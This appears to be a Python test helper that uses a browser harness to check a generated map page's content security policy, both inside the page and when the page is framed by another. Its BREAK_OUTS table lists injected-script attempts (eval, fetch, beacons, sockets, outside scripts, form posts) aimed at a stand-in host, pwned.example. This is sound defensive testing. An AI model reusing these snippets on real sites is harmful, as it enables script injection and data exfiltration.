"""The page's content security policy, tried from inside, and in a frame of another page."""

import html
import re
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from infmap.maps.embed import embed_snippet
from reliability.payload_browser import watched

READY = "#headline:not(:empty)"
#: Attacks by a script in the page, each with the policy directive that must refuse it.
BREAK_OUTS = {
    # Called later, since no policy applies to scripts that the browser is told to run directly.
    "eval": "setTimeout(() => eval('window.__pwned = 1'))",
    "a function of a text": "setTimeout(() => new Function('window.__pwned = 1')())",
    "a timer of a text": "setTimeout('window.__pwned = 1')",
    "fetch": "fetch('https://pwned.example/')",
    "a request of the old kind": "(() => { const x = new XMLHttpRequest();"
    " x.open('GET', 'https://pwned.example/'); x.send(); })()",
    "a socket": "new WebSocket('wss://pwned.example/')",
    "a beacon": "navigator.sendBeacon('https://pwned.example/', 'x')",
    "an outside image": "document.body.append(Object.assign(new Image(),"
    " { src: 'https://pwned.example/x.png' }))",
    "a script in the page": "document.body.append(Object.assign(document.createElement('script'),"
    " { textContent: 'window.__pwned = 1' }))",
    "a script from outside": "document.body.append(Object.assign(document.createElement('script'),"
    " { src: 'https://pwned.example/x.js' }))",
    "a handler": "document.body.insertAdjacentHTML('beforeend',"
    " '<b onclick=\"window.__pwned=1\">x</b>') ?? document.body.lastChild.click()",
    "a style": "document.body.append(Object.assign(document.createElement('style'),"
    " { textContent: 'body{color:red}' }))",
    "a style attribute": "document.body.insertAdjacentHTML('beforeend',"
    " '<b style=\"color:red\">x')",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " { src: 'https://pwned.example/' }))",
    "an object": "document.body.append(Object.assign(document.createElement('object'),"
    " { data: 'https://pwned.example/' }))",
    "a form": "(() => { const form = document.createElement('form');"
    " form.action = 'https://pwned.example/'; document.body.append(form); form.submit(); })()",
    "a base": "document.head.append(Object.assign(document.createElement('base'),"
    " { href: 'https://pwned.example/' }))",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['1'])))",
}
TRY = """async () => {
  const before = window.__refused.length;
  try { await CODE; } catch {}
  for (let k = 0; k < 60 && window.__refused.length === before; k += 1) {
    await new Promise((done) => setTimeout(done, 50));
  }
  return window.__refused.length > before;
}"""
STRICT = "default-src 'none'; frame-src 'self'"
LOOSE = "default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src data:"
#: Ways to embed a page, with the policy of the embedding page.
FRAMES = (("file", STRICT), ("file", f"{LOOSE}; frame-src 'self'"), ("inline", LOOSE))


def policy_lost(page: str) -> list[str]:
    """Return a line for each thing that a page's policy allows but should not."""
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    if policy is None:
        return ["the page has no policy"]
    text = html.unescape(policy[1])
    rules = {name: words for name, *words in map(str.split, text.split(";"))}
    lost = [
        f"{name} is {' '.join(rules.get(name, ['missing']))}"
        for name in ("default-src", "base-uri", "form-action")
        if rules.get(name) != ["'none'"]
    ]
    for name in ("script-src", "style-src"):
        lost += [f"{name} allows {word}" for word in rules[name] if not word.startswith("'sha256-")]
    lost += [f"img-src allows {word}" for word in rules["img-src"] if word != "data:"]
    known = {"default-src", "script-src", "style-src", "img-src", "base-uri", "form-action"}
    return [*lost, *(f"there is a rule for {name}" for name in rules.keys() - known)]


def break_outs_lost(browser: Any, path: Path, ready: str = READY) -> list[str]:
    """Return a line for each attack in which a script in the page succeeds."""
    lost = []
    with watched(browser) as seen:
        seen.open(path, ready)
        for name, code in BREAK_OUTS.items():
            if not seen.page.evaluate(TRY.replace("CODE", code)):
                lost.append(f"nothing refuses {name}")
        if seen.page.evaluate("() => window.__pwned !== undefined"):
            lost.append("a script written into the page ran")
        lost += [line for line in seen.lost if line.startswith(("dialog", "a new window"))]
    return lost


class _Handler(SimpleHTTPRequestHandler):
    """Serves a folder; only the embedding page has a policy."""

    policy = ""

    def end_headers(self) -> None:
        """Send the policy with the embedding page."""
        if self.path.startswith("/host"):
            self.send_header("Content-Security-Policy", self.policy)
        super().end_headers()

    def log_message(self, *_: object) -> None:
        """Stay silent."""


@contextmanager
def served(folder: Path, policy: str) -> Iterator[str]:
    """Serve a folder on this machine, its embedding page with a policy; yield the address."""
    handler = type("_Host", (_Handler,), {"policy": policy})
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(handler, directory=str(folder)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def framed_lost(
    browser: Any, folder: Path, page: str, frames: Sequence[tuple[str, str]] = FRAMES
) -> list[str]:
    """Embed a page, as a file and inline, in another with a policy; return what fails."""
    path = folder / "a map, 100 %.html"
    path.write_text(page, "utf-8")
    lost = []
    for form, policy in frames:
        snippet = embed_snippet(str(path), inline=form == "inline")
        snippet = snippet.replace(embed_address(path), "a%20map%2C%20100%20%25.html")
        host = f"<!DOCTYPE html><meta charset=utf-8><title>Host</title><p>Here:</p>{snippet}"
        (folder / "host.html").write_text(host, "utf-8")
        with served(folder, policy) as address, watched(browser, offline=False) as seen:
            seen.page.goto(f"{address}/host.html")
            frame = seen.page.frame_locator("iframe")
            frame.locator(READY).wait_for()
            frame.locator(".site").nth(1).click()
            frame.locator("#capital-table tbody button").first.click()
            if not frame.locator("#card").is_visible():
                lost.append(f"{form} under {policy}: no card opens")
            box = seen.page.locator("iframe").bounding_box()
            if box["width"] < 1000 or box["height"] < 600:
                lost.append(f"{form} under {policy}: the frame is {box['width']} x {box['height']}")
            reads = seen.page.frames[1].evaluate(
                "() => { try { return parent.document.title } catch { return null } }"
            )
            if reads is not None:
                lost.append(f"{form} under {policy}: the frame reads its host")
            # The embedding page may refuse the frame's style: width and height still apply.
            lost += [
                f"{form} under {policy}: {line}"
                for line in seen.lost
                if "inline style" not in line or policy != STRICT
            ]
    return lost


def embed_address(path: Path) -> str:
    """Return the address of a file as `infmap embed` writes it."""
    address = re.search(r' src="([^"]*)"', embed_snippet(str(path)))
    return address[1] if address else ""
